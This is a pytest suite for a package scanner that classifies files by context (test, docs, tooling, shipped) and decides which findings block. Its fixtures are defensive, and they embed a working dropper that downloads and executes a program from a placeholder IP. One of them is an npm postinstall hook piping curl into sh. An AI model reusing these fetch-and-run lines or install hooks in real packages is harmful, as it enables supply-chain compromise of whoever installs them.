"""A file's context, decided once: folders and names say test, docs, example or tooling, and
shipped code that imports or runs a file makes it shipped whatever its folder."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from binbuild import compile_c
from builders import gzip_bytes, java_class, tar_bytes, write, zip_bytes
from finalexam.config import Config
from finalexam.context import path_context, references_in, vendored
from finalexam.exam import run_exam
from finalexam.model import FileContext, Finding, FindingKind, Location, Report, Severity
from finalexam.policy import decide

# a dropper: fetches a program and runs it (high behaviour wherever it sits)
PAYLOAD = (
    "import os, subprocess, urllib.request\n"
    "urllib.request.urlretrieve('http://203.0.113.9/u', '/tmp/u')\n"
    "os.chmod('/tmp/u', 0o755)\n"
    "subprocess.Popen(['/tmp/u'])\n"
)


@pytest.mark.parametrize(
    ("path", "context"),
    [
        ("pkg/api.py", FileContext.SHIPPED),
        ("pkg/tests/test_api.py", FileContext.TEST),
        ("pkg-1.0/test/helpers.js", FileContext.TEST),
        ("pkg/unit-tests/x.py", FileContext.TEST),
        ("pkg/test_api.py", FileContext.TEST),
        ("Cryptodome/SelfTest/PublicKey/__init__.py", FileContext.TEST),  # pycryptodomex
        ("pkg/selftest.py", FileContext.SHIPPED),  # a module that checks itself at run time
        ("src/app.spec.ts", FileContext.TEST),
        ("ninja-1.13.2/ninja-upstream/src/jobserver_test.cc", FileContext.TEST),  # C++ tests
        ("chromium/base/values_unittest.cc", FileContext.TEST),
        ("ninja-1.13.2/ninja-upstream/src/jobserver.cc", FileContext.SHIPPED),
        ("pkg-1.0/docs/conf.py", FileContext.DOCS),
        ("usr/share/man/man1/age-keygen.1.gz", FileContext.DOCS),
        ("usr/share/info/gnupg.info-1.gz", FileContext.DOCS),
        ("usr/lib/jvm/java-17/man/man1/keytool.1.gz", FileContext.DOCS),
        ("pkg/man/__init__.py", FileContext.SHIPPED),  # a module named man is no manual
        ("README.md", FileContext.DOCS),
        ("pkg/examples/client.py", FileContext.EXAMPLE),
        ("botocore/data/iam/2010-05-08/examples-1.json", FileContext.EXAMPLE),
        ("pkg/tools/build.py", FileContext.TOOLING),
        ("pkg-1.0/scripts/release.sh", FileContext.TOOLING),
        ("pkg-1.0.data/scripts/pkg-cli", FileContext.SHIPPED),  # installed as a command
        ("pkg-1.0/tests/setup.py", FileContext.SHIPPED),  # an installer runs it anywhere
        ("pkg.dist-info/entry_points.txt", FileContext.SHIPPED),
        ("package/yarn.lock", FileContext.TOOLING),  # npm installs without it (uri-js)
        ("package/npm-shrinkwrap.json", FileContext.SHIPPED),
        ("app/package-lock.json", FileContext.SHIPPED),
        ("jwcrypto/tests.py", FileContext.TEST),  # a module of tests by its name
        ("package/bench.js", FileContext.TOOLING),  # jsonparse: a benchmark by its name
        ("pkg/benchmarks.py", FileContext.TOOLING),
        ("pkg/benchmark_utils.ts", FileContext.TOOLING),
        ("pkg/bench_press.c", FileContext.SHIPPED),  # compiled code is not told by its name
        ("usr/share/roundcube/program/localization/br/labels.inc", FileContext.SHIPPED),
        ("jwcrypto/tests-cookbook.py", FileContext.TEST),
        # limnoria's plugins each keep their tests in test.py (unittest discovers test*.py)
        ("supybot/plugins/GPG/test.py", FileContext.TEST),
        ("pkg/testing.py", FileContext.SHIPPED),
        ("pkg/contests.py", FileContext.SHIPPED),
        ("usr/share/coturn/testmongosetup.sh", FileContext.TEST),  # coturn's test database
        ("etc/privoxy/regression-tests.action", FileContext.TEST),
        ("pkg/latest.json", FileContext.SHIPPED),
        ("cmake/Templates/Windows/Windows_TemporaryKey.pfx", FileContext.TEST),  # VS test signing
        ("org/h2/server/web/res/_text_cs.prop", FileContext.DOCS),  # a message bundle
        ("org/apache/catalina/LocalStrings_pt_BR.properties", FileContext.DOCS),
        ("org/h2/server/web/res/_text_pt_br.prop", FileContext.DOCS),
        ("app/jdbc_pw.properties", FileContext.SHIPPED),  # pw: no language
        ("app/settings.properties", FileContext.SHIPPED),
        ("package/locales/nb.json", FileContext.DOCS),  # axe-core's translations
        ("var/lib/rkhunter/db/i18n/tr.utf8", FileContext.DOCS),
        ("package/locale/fr.js", FileContext.SHIPPED),  # code a library may load by name
    ],
)
def test_path_context(path: str, context: FileContext) -> None:
    assert path_context(path) is context


def test_a_jar_under_tests_is_test_material_as_a_whole() -> None:
    inner = Location(("app.tar", "app/tests/data/fixture.jar", "com/x/Key.class"))
    assert path_context(inner) is FileContext.TEST


def test_references_of_python_javascript_and_package_json() -> None:
    python = references_in(
        "pkg/__init__.py",
        "from .tools import helper\nfrom . import docs\nimport pkg.scripts.run as r\n"
        "from ..other import (\n  a,\n  b,\n)\n"
        "importlib.import_module('pkg.examples.demo')\n"
        "exec(open('pkg/docs/x.py').read())\n",
    )
    assert {"pkg/tools", "pkg/tools/helper", "pkg/docs", "other/a", "other"} <= python.exact
    assert {"pkg/scripts/run", "pkg/examples/demo", "pkg/docs/x"} <= python.suffix
    javascript = references_in(
        "package/lib/index.js", "const t = require('../tools/t');\nimport x from './docs/y.js'\n"
    )
    assert {"package/tools/t", "package/lib/docs/y"} <= javascript.exact
    manifest = {
        "main": "lib/index.js",
        "bin": {"cli": "./scripts/cli.js"},
        "scripts": {"postinstall": "node scripts/setup.js", "test": "mocha test/"},
    }
    refs = references_in("package/package.json", json.dumps(manifest))
    assert {"package/lib", "package/scripts/cli", "package/scripts/setup"} <= refs.exact
    assert not any("test" in key for key in refs.exact | refs.suffix)  # dev scripts run nothing
    config = references_in("pkg-1.0/setup.cfg", "[tool:pytest]\ntestpaths = tests/\n")
    assert not config.exact and not config.suffix
    # entry points are declared in their sections or keys; elsewhere "a:b" is a setting
    # (jupytext's build hook runs the npm script "build:prod")
    project = references_in(
        "jupytext-1.0/pyproject.toml",
        '[project]\nname = "jupytext"\nentry-points = { tool = { x = "pkg.plug:hook" } }\n'
        '[project.scripts]\n"jupytext" = "jupytext.cli:jupytext"\n'
        '[tool.hatch.build.hooks.jupyter-builder]\nbuild_cmd = "build:prod"\n'
        '[tool.poetry.plugins."x.y"]\nz = "pkg.poetry:plugin"\n',
    )
    assert project.suffix == {"jupytext/cli", "pkg/plug", "pkg/poetry"}
    setup_cfg = references_in(
        "pkg-1.0/setup.cfg",
        "[options.entry_points]\nconsole_scripts =\n    run = pkg.scripts.run:main\n"
        "[tool:pytest]\naddopts = -p tests.plugin:setup\n",
    )
    assert setup_cfg.suffix == {"pkg/scripts/run"}


def test_setup_py_package_lists_and_its_test_command_run_nothing_on_install() -> None:
    """pycrypto 2.6.1's setup.py lists ``Crypto.SelfTest`` among its packages and imports it
    in the class of its ``test`` command: installing runs neither, so its self-test keys stay
    test material. A class registered for a command that installing runs still counts."""
    setup = (
        "from distutils.core import Command, setup\n"
        "class TestCommand(Command):\n"
        "    def run(self):\n"
        "        from Crypto import SelfTest\n"
        "        SelfTest.run()\n"
        "class Build(Command):\n"
        "    def run(self):\n"
        "        import Crypto.tools.prepare  # runs on every build\n"
        "kw = {'cmdclass': {'test': TestCommand, 'build_py': Build},\n"
        "      'packages': ['Crypto', 'Crypto.SelfTest', 'Crypto.SelfTest.Cipher']}\n"
        "setup(py_modules=['Crypto.SelfTest.helpers'], **kw)\n"
    )
    refs = references_in("pycrypto-2.6.1/setup.py", setup)
    assert not any("SelfTest" in ref for ref in refs.exact | refs.suffix)
    assert "Crypto/tools/prepare" in refs.suffix
    # the same class registered for install runs on every install
    hooked = references_in(
        "pkg-1.0/setup.py", setup.replace("'build_py': Build", "'install': TestCommand")
    )
    assert any("SelfTest" in ref for ref in hooked.suffix)
    # any other file naming the package list is read as before
    other = references_in("pkg/run.py", "packages = ['Crypto.SelfTest']\n")
    assert "Crypto/SelfTest" in other.suffix


def test_backticks_are_strings_in_javascript_and_shell_not_in_python() -> None:
    """numpy's ``_add_newdocs_scalars.py`` says ``conf.py`` in a docstring (reStructuredText):
    that ran nothing, and must not pull the Sphinx configuration and the MathJax it names
    out of the docs."""
    python = references_in("pkg/_docs.py", '"""\nRead by our sphinx ``conf.py`` at build.\n"""\n')
    assert "conf" not in python.suffix
    assert "conf" in references_in("pkg/run.py", "exec(open('conf.py').read())\n").suffix
    assert "conf" in references_in("pkg/run.js", "spawn(`node conf.js`)\n").suffix


def _blocking(report: Report) -> dict[str, str]:
    found = {}
    for finding in report.findings:
        if finding.location and finding.kind.value == "behavior" and finding.severity.rank >= 3:
            found[finding.location.path] = str(finding.context)
    return found


def _wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    members = {f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\n"}
    members.update(files)
    return write(tmp_path / f"{name}-1.0-py3-none-any.whl", zip_bytes(members))


def test_a_payload_moved_into_tools_scripts_or_docs_and_imported_stays_blocking(
    tmp_path: Path,
) -> None:
    for folder in ("tools", "scripts", "docs", "tests"):
        name = f"carrier{folder}"
        wheel = _wheel(
            tmp_path,
            name,
            {
                f"{name}/__init__.py": f"from .{folder} import loader\n",
                f"{name}/{folder}/__init__.py": "",
                f"{name}/{folder}/loader.py": PAYLOAD,
            },
        )
        report = run_exam(wheel, Config(disable=("vulnerabilities",)))
        assert _blocking(report) == {f"{name}/{folder}/loader.py": "shipped"}, folder
        assert not report.verdict.passed


def test_a_payload_reached_through_a_chain_of_imports_stays_blocking(tmp_path: Path) -> None:
    wheel = _wheel(
        tmp_path,
        "chain",
        {
            "chain/__init__.py": "import chain.tools.first\n",
            "chain/tools/first.py": "from chain.tools import second\n",
            "chain/tools/second.py": PAYLOAD,
        },
    )
    assert _blocking(run_exam(wheel, Config(disable=("vulnerabilities",)))) == {
        "chain/tools/second.py": "shipped"
    }


def test_a_script_an_install_hook_or_setup_py_runs_stays_blocking(tmp_path: Path) -> None:
    npm = write(
        tmp_path / "hooked-1.0.0.tgz",
        gzip_bytes(
            tar_bytes(
                {
                    "package/package.json": json.dumps(
                        {
                            "name": "hooked",
                            "version": "1.0.0",
                            "scripts": {"postinstall": "node docs/build.js"},
                        }
                    ),
                    "package/docs/build.js": (
                        "const cp = require('child_process');\n"
                        "cp.execSync('curl -s http://203.0.113.9/x | sh');\n"
                    ),
                }
            )
        ),
    )
    report = run_exam(npm, Config(disable=("vulnerabilities",)))
    assert "package/docs/build.js" in _blocking(report)
    assert _blocking(report)["package/docs/build.js"] == "shipped"
    sdist = write(
        tmp_path / "runner-1.0.tar.gz",
        gzip_bytes(
            tar_bytes(
                {
                    "runner-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: runner\nVersion: 1.0\n",
                    "runner-1.0/setup.py": (
                        "from setuptools import setup\n"
                        "exec(open('scripts/prepare.py').read())\n"
                        "setup(name='runner')\n"
                    ),
                    "runner-1.0/scripts/prepare.py": PAYLOAD,
                }
            )
        ),
    )
    found = _blocking(run_exam(sdist, Config(disable=("vulnerabilities",))))
    assert found.get("runner-1.0/scripts/prepare.py") == "shipped"


def test_tests_docs_and_examples_nobody_runs_keep_their_findings_without_blocking(
    tmp_path: Path,
) -> None:
    wheel = _wheel(
        tmp_path,
        "honest",
        {
            "honest/__init__.py": "VERSION = '1.0'\n",
            "honest/tests/test_dl.py": PAYLOAD,
            "honest/examples/dl.py": PAYLOAD,
            "honest/tools/dl.py": PAYLOAD,
        },
    )
    report = run_exam(wheel, Config(disable=("vulnerabilities",)))
    assert _blocking(report) == {
        "honest/tests/test_dl.py": "test",
        "honest/examples/dl.py": "example",
        "honest/tools/dl.py": "tooling",
    }
    assert report.verdict.passed


@pytest.mark.parametrize(
    ("chain", "image", "expected"),
    [
        (("numpy.whl", "numpy.libs/libopenblas64_p-r0.so"), False, True),
        (("pip.whl", "pip/_vendor/distlib/t64.exe"), False, True),
        (("app.tgz", "package/node_modules/x/index.js"), False, True),
        (("app.whl", "app/core.so"), False, False),
        (("debian.tar", "usr/bin/python3.11"), True, True),
        (("debian.tar", "usr/local/bin/app"), True, False),
        (("debian.tar", "app/server"), True, False),
        (("python3.deb", "data.tar.xz", "./usr/bin/python3.11"), False, False),
        (
            ("ray.whl", "ray/jars/ray_dist.jar", "com/sun/jna/freebsd-x86/libjnidispatch.so"),
            False,
            True,
        ),
        (("app.war", "WEB-INF/lib/snappy.jar", "native/libsnappyjava.so"), False, True),
        (("jna.jar", "com/sun/jna/linux-x86-64/libjnidispatch.so"), False, False),
        (("app.war", "WEB-INF/classes/App.class"), False, False),
        (("jna.deb", "data.tar.xz", "usr/share/java/jna.jar", "com/sun/jna/x.so"), False, False),
    ],
)
def test_vendored_code_is_what_other_projects_built(
    chain: tuple[str, ...], image: bool, expected: bool
) -> None:
    assert vendored(Location(chain), image) is expected


@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc not installed")
def test_a_boot_loaders_modules_lack_no_stack_protection(tmp_path: Path) -> None:
    """syslinux-common ships COM32 modules (gfxboot.c32, ldlinux.e64): ELF files its boot
    loader runs before any operating system, with an executable stack."""
    module = compile_c(
        tmp_path, "gfxboot.c32", ["-shared", "-fPIC", "-z", "execstack"], "int f(void){return 1;}"
    )
    files = {"boot/modules/gfxboot.c32": module.read_bytes()}
    report = run_exam(_wheel(tmp_path, "bootmods", files), Config(disable=("vulnerabilities",)))
    assert not [f for f in report.findings if f.rule_id == "binary.exec-stack"]
    # the same file under a program's name still lacks it
    files = {"boot/modules/gfxboot.so": module.read_bytes()}
    report = run_exam(_wheel(tmp_path, "bootso", files), Config(disable=("vulnerabilities",)))
    assert [f for f in report.findings if f.rule_id == "binary.exec-stack"]


@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc not installed")
def test_native_code_of_a_bundled_jar_is_reported_and_the_packages_own_blocks(
    tmp_path: Path,
) -> None:
    # a library linked with an executable stack, as old cross toolchains leave the FreeBSD
    # and SunOS builds that JNA and snappy-java carry in their jars
    library = compile_c(
        tmp_path, "libnative.so", ["-shared", "-fPIC", "-z", "execstack"], "int f(void){return 1;}"
    )
    jar = zip_bytes(
        {"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "x/libnative.so": library.read_bytes()}
    )
    bundled = _wheel(tmp_path, "bundler", {"bundler/jars/dep.jar": jar})
    report = run_exam(bundled, Config(disable=("vulnerabilities",)))
    gap = next(f for f in report.findings if f.rule_id == "binary.exec-stack")
    assert gap.context is FileContext.VENDORED
    assert report.verdict.passed  # reported, not blocking
    reported = {c.rule: c.matched for c in report.verdict.checks}
    assert reported["binary-hardening-report"] >= 1

    own = _wheel(tmp_path, "owner", {"owner/libnative.so": library.read_bytes()})
    report = run_exam(own, Config(disable=("vulnerabilities",)))
    assert [v.rule for v in report.verdict.violations] == ["binary-hardening"]


def test_hardening_blocks_only_the_packages_own_medium_gaps() -> None:
    def finding(rule: str, severity: Severity, context: FileContext) -> Finding:
        return Finding(
            kind=FindingKind.BINARY,
            rule_id=f"binary.{rule}",
            severity=severity,
            title=rule,
            message=rule,
            location=Location(("a.deb", f"usr/bin/{rule}-{context}")),
            found_by="binary",
            context=context,
        )

    findings = [
        finding("no-pie", Severity.LOW, FileContext.SHIPPED),  # Debian's python3.11
        finding("exec-stack", Severity.MEDIUM, FileContext.VENDORED),
        finding("exec-stack", Severity.MEDIUM, FileContext.SHIPPED),
    ]
    verdict, _, _ = decide(findings, [], [], Config())
    assert [v.rule for v in verdict.violations] == ["binary-hardening"]
    assert "exec-stack-shipped" in verdict.violations[0].message
    reported = {c.rule: c.matched for c in verdict.checks}
    assert reported["binary-hardening-report"] == 3  # every gap stays in the report


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb not installed")
def test_a_secret_in_a_file_an_image_package_installed_is_the_distributions(
    tmp_path: Path,
) -> None:
    """In an image, a value in a file dpkg's database lists (a Maven pom a Java library
    package installed) has context distro and does not block; the same value in a file the
    image builder added blocks, and so does the .deb examined on its own (the user's build)."""
    from distbuild import build_deb, debian_image

    setting = 'DB_PASSWORD = "Vq8kLm2xR4zT"\n'
    jar = zip_bytes({"META-INF/maven/app/settings.py": setting})
    deb = build_deb(
        tmp_path,
        "libdemo-java",
        "1.0-1",
        files={"usr/share/java/libdemo/settings.py": setting, "usr/share/java/demo.jar": jar},
    )
    image = debian_image(
        [deb],
        'ID=debian\nVERSION_ID="12"\n',
        extra={"srv/app/settings.py": setting},
    )
    report = run_exam(
        write(tmp_path / "image.tar", image), Config(offline=True, only=("secrets", "dpkg"))
    )
    contexts = {f.location.path: f.context for f in report.findings if f.kind is FindingKind.SECRET}
    assert contexts["usr/share/java/libdemo/settings.py"] is FileContext.DISTRO
    assert contexts["META-INF/maven/app/settings.py"] is FileContext.DISTRO  # in the jar
    assert contexts["srv/app/settings.py"] in (FileContext.SHIPPED, FileContext.VENDORED)
    assert not report.verdict.passed
    alone = run_exam(deb, Config(offline=True, only=("secrets", "dpkg")))
    assert {f.context for f in alone.findings} == {FileContext.SHIPPED}
    assert not alone.verdict.passed


def _certificate_pair(
    names: list[str], issuer: tuple[object, object] | None = None
) -> tuple[object, object]:
    """A real RSA key and an X.509 certificate for ``names`` (self-signed, or by ``issuer``:
    a (key, certificate) pair); no names makes a CA."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, f"o-{len(names)}")])
    if names:
        subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])])
    signer_key, signer = issuer if issuer else (key, None)
    now = datetime.datetime.now(datetime.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(signer.subject if signer is not None else subject)  # type: ignore[attr-defined]
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=30))
    )
    if names:
        builder = builder.add_extension(
            x509.SubjectAlternativeName([x509.DNSName(n) for n in names]), critical=False
        )
    return key, builder.sign(signer_key, hashes.SHA256())  # type: ignore[arg-type]


def _pem(key: object, certificate: object) -> tuple[str, str]:
    from cryptography.hazmat.primitives import serialization

    key_pem = key.private_bytes(  # type: ignore[attr-defined]
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,
        serialization.NoEncryption(),
    ).decode()
    cert_pem = certificate.public_bytes(serialization.Encoding.PEM).decode()  # type: ignore[attr-defined]
    return key_pem, cert_pem


def test_the_key_of_a_certificate_for_test_names_only_is_test_material(tmp_path: Path) -> None:
    """urllib3's sdist ships its test server's CA and localhost certificate with their keys
    in ``dummyserver/certs``: keys that cannot vouch for any real host. A key whose
    certificate names a real host, or a key with no certificate, still blocks."""
    ca = _certificate_pair([])
    leaf = _certificate_pair(["localhost", "127.0.0.1.test"], issuer=ca)
    real = _certificate_pair(["api.example-corp.io"])
    ca_key, ca_cert = _pem(*ca)
    leaf_key, leaf_cert = _pem(*leaf)
    real_key, real_cert = _pem(*real)
    lone_key, _ = _pem(*_certificate_pair(["localhost"]))
    sdist = write(
        tmp_path / "netlib-1.0.tar.gz",
        gzip_bytes(
            tar_bytes(
                {
                    "netlib-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: netlib\nVersion: 1.0\n",
                    "netlib-1.0/dummyserver/certs/cacert.key": ca_key,
                    "netlib-1.0/dummyserver/certs/cacert.pem": ca_cert,
                    "netlib-1.0/dummyserver/certs/server.key": leaf_key,
                    "netlib-1.0/dummyserver/certs/server.crt": leaf_cert,
                    "netlib-1.0/deploy/prod.key": real_key,
                    "netlib-1.0/deploy/prod.crt": real_cert,
                    "netlib-1.0/deploy/other.key": lone_key,
                }
            )
        ),
    )
    report = run_exam(sdist, Config(disable=("vulnerabilities",)))
    contexts = {
        f.location.path.rsplit("/", 1)[-1]: str(f.context)
        for f in report.findings
        if f.kind is FindingKind.SECRET and f.location
    }
    assert contexts == {
        "cacert.key": "test",
        "server.key": "test",
        "prod.key": "shipped",
        "other.key": "shipped",
    }
    assert not report.verdict.passed


def test_a_certificate_of_a_key_kind_the_library_cannot_load_vouches_for_nothing(
    tmp_path: Path,
) -> None:
    """gnutls-cli carries GOST test certificates (key type 1.2.643.7.1.1.1.1) beside its test
    keys; loading such a public key raises UnsupportedAlgorithm, which had stopped the
    secrets analyzer on the whole file and left the exam incomplete."""
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization

    key, certificate = _certificate_pair(["localhost"])
    rsa_encryption = bytes.fromhex("06092a864886f70d010101")
    unknown_kind = bytes.fromhex("06092a864886f70d010163")  # 1.2.840.113549.1.1.99
    der = certificate.public_bytes(serialization.Encoding.DER)  # type: ignore[attr-defined]
    odd = x509.load_der_x509_certificate(der.replace(rsa_encryption, unknown_kind))
    key_pem, cert_pem = _pem(key, odd)
    sdist = write(
        tmp_path / "gnutool-1.0.tar.gz",
        gzip_bytes(
            tar_bytes(
                {
                    "gnutool-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: gnutool\nVersion: 1.0\n",
                    "gnutool-1.0/gnutool/pair.pem": cert_pem + key_pem,
                }
            )
        ),
    )
    report = run_exam(sdist, Config(disable=("vulnerabilities",)))
    assert not report.issues  # examined to the end
    keys = [f for f in report.findings if f.kind is FindingKind.SECRET]
    assert [str(f.context) for f in keys] == ["shipped"]  # nothing vouches for the key


def test_a_key_beside_its_own_certificate_for_test_names_is_test_material(tmp_path: Path) -> None:
    """netty-handler (in pyspark's jars) carries a self-signed example.com certificate and
    its key in SslUtils, OpenSsl and JdkSslServerContext to probe the TLS engine. The same
    pair for a real host, or a key beside somebody else's test certificate, still blocks."""
    from finalexam.analyze.secrets.scan import scan_bytes

    def contexts(certificate_of: object, key_of: object, names: list[str]) -> list[object]:
        key_pem, cert_pem = _pem(key_of, certificate_of)
        data = java_class(tmp_path / "-".join(names), "SslUtils", [cert_pem, key_pem])
        path = "io/netty/handler/ssl/SslUtils.class"
        return [hit.context for hit in scan_bytes(data, path, binary=True, kind="java-class")]

    key, certificate = _certificate_pair(["example.com"])
    assert contexts(certificate, key, ["example.com"]) == [FileContext.TEST]
    key, certificate = _certificate_pair(["netty.io"])
    assert contexts(certificate, key, ["netty.io"]) == [None]
    other, _ = _certificate_pair(["localhost"])
    key, certificate = _certificate_pair(["localhost"])
    assert contexts(certificate, other, ["other"]) == [None]
